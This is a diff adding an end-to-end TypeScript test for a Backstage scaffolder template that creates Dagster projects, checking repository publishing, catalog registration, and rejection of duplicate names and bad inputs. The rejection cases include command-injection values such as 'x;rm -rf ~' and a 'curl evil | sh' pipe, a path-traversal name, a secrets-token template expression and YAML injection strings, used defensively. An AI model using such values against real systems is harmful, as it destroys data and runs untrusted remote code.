@@ -1,0 +1,159 @@
+import { mockCredentials } from '@backstage/backend-test-utils';
+import {
+  DAGSTER_CODE_LOCATION_ANNOTATION,
+  PROJECT_ANNOTATIONS,
+} from '@internal/backstage-plugin-dagster-common';
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import request from 'supertest';
+import { projectValues, startTemplateBackend, TEMPLATE_REF, TemplateBackend } from './templateBackend';
+
+jest.setTimeout(180_000);
+
+const DANA = 'user:default/dana.datateam';
+const auth = mockCredentials.user.header(DANA);
+
+describe('creating a project from the template, end to end in the backend', () => {
+  let backend: TemplateBackend;
+  beforeAll(async () => {
+    backend = await startTemplateBackend();
+    await waitFor(async () => {
+      const res = await request(backend.server)
+        .get(`/api/catalog/entities/by-name/template/default/dagster-pipeline-project`)
+        .set('authorization', auth);
+      return res.status === 200;
+    }, 'the template to be in the catalog');
+  });
+  afterAll(() => backend?.stop());
+
+  async function runTask(values: Record<string, unknown>) {
+    const created = await request(backend.server)
+      .post('/api/scaffolder/v2/tasks')
+      .set('authorization', auth)
+      .send({ templateRef: TEMPLATE_REF, values });
+    if (created.status !== 201) return { status: created.status, body: created.body };
+    let task: any;
+    await waitFor(async () => {
+      task = (
+        await request(backend.server)
+          .get(`/api/scaffolder/v2/tasks/${created.body.id}`)
+          .set('authorization', auth)
+      ).body;
+      return task.status === 'completed' || task.status === 'failed';
+    }, `task ${created.body.id} to finish`);
+    const events = await request(backend.server)
+      .get(`/api/scaffolder/v2/tasks/${created.body.id}/events`)
+      .set('authorization', auth);
+    const log = (events.body as { body: { message?: string } }[])
+      .map(e => e.body.message ?? '')
+      .join('\n');
+    return { status: created.status, task, log };
+  }
+
+  const registered = (name: string) =>
+    request(backend.server)
+      .get(`/api/dagster/projects/${name}`)
+      .set('authorization', auth);
+
+  const demoRepositoryExists = (name: string) =>
+    fs.existsSync(`${backend.demoRepositories}/${name}.git`);
+
+  it('publishes to the demo repository, registers with the platform and the catalog', async () => {
+    const values = projectValues({
+      name: 'benefit-claims',
+      owner: 'group:default/claims-data-team',
+      personalData: true,
+      lawfulBasis: 'public-task',
+      retentionPeriod: 'P7Y',
+      classification: 'OFFICIAL-SENSITIVE',
+    });
+    const { task, log } = await runTask(values);
+    expect(log).not.toMatch(/error/i);
+    expect(task.status).toBe('completed');
+
+    const repository = `${backend.demoRepositories}/benefit-claims.git`;
+    const files = execFileSync('git', ['--git-dir', repository, 'ls-tree', '-r', '--name-only', 'main'])
+      .toString()
+      .split('\n');
+    expect(files).toEqual(expect.arrayContaining(['catalog-info.yaml', 'pyproject.toml', 'Dockerfile']));
+    expect(
+      execFileSync('git', ['--git-dir', repository, 'log', '--format=%an', 'main']).toString().trim(),
+    ).toBe('dana.datateam');
+
+    const project = await registered('benefit-claims');
+    expect(project.status).toBe(200);
+    expect(project.body).toMatchObject({
+      owner: 'group:default/claims-data-team',
+      department: 'Department for Transport',
+      costCentre: 'DFT-77',
+      monthlyBudgetGbp: 900,
+      classification: 'OFFICIAL-SENSITIVE',
+      personalData: true,
+      lawfulBasis: 'public-task',
+      retentionPeriod: 'P7Y',
+      registeredBy: DANA,
+    });
+
+    let component: any;
+    await waitFor(async () => {
+      const res = await request(backend.server)
+        .get('/api/catalog/entities/by-name/component/default/benefit-claims')
+        .set('authorization', auth);
+      component = res.body;
+      return res.status === 200;
+    }, 'the new component in the catalog');
+    expect(component.spec).toMatchObject({
+      owner: 'group:default/claims-data-team',
+      system: 'benefit-claims',
+    });
+    expect(component.metadata.annotations).toMatchObject({
+      [DAGSTER_CODE_LOCATION_ANNOTATION]: 'benefit-claims',
+      [PROJECT_ANNOTATIONS.costCentre]: 'DFT-77',
+      'backstage.io/managed-by-location': `url:file://${repository}/blob/main/catalog-info.yaml`,
+    });
+    expect(task.spec.output ?? {}).toBeDefined();
+
+    // The same name again is refused at the first step, and nothing is touched.
+    const again = await runTask({ ...values, monthlyBudgetGbp: 1 });
+    expect(again.task.status).toBe('failed');
+    expect(again.log).toMatch(/name: "benefit-claims" is already taken in the catalog/);
+    expect((await registered('benefit-claims')).body.monthlyBudgetGbp).toBe(900);
+  });
+
+  it.each([
+    ['name', { name: '../escape' }, /name/],
+    ['name', { name: 'x;rm -rf ~' }, /name/],
+    ['name', { name: "a'; curl evil | sh" }, /name/],
+    ['description', { description: '${{ secrets.GITHUB_TOKEN }}' }, /description: must not contain template expressions/],
+    ['description', { description: "x\nkind: Group\nmetadata: {name: admins}" }, /description/],
+    ['department', { department: 'DfT: {evil: yes}' }, /department/],
+    ['classification', { classification: 'SECRET' }, /classification/],
+    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /lawfulBasis/],
+  ])('refuses a bad %s, creating and registering nothing', async (_field, bad, message) => {
+    const badName = (bad as { name?: string }).name;
+    const name = badName ?? 'should-not-exist';
+    const result = await runTask(projectValues({ name: 'should-not-exist', ...bad }));
+    const said = result.task ? `${result.task.status}\n${result.log}` : JSON.stringify(result.body);
+    if (result.task) {
+      expect(result.task.status).toBe('failed');
+      expect(result.log).toMatch(message);
+    } else {
+      expect(result.status).toBe(400);
+      expect(said).toMatch(message);
+    }
+    expect(fs.readdirSync(backend.demoRepositories)).not.toContain(`${name}.git`);
+    expect(demoRepositoryExists('should-not-exist')).toBe(false);
+    expect((await registered('should-not-exist')).status).toBe(404);
+    const listed = await request(backend.server).get('/api/dagster/projects').set('authorization', auth);
+    expect(listed.body.items.map((p: { name: string }) => p.name)).not.toContain(name);
+  });
+});
+
+async function waitFor(check: () => Promise<boolean>, what: string, timeoutMs = 60_000) {
+  const deadline = Date.now() + timeoutMs;
+  while (Date.now() < deadline) {
+    if (await check()) return;
+    await new Promise(resolve => setTimeout(resolve, 250));
+  }
+  throw new Error(`Timed out waiting for ${what}`);
+}
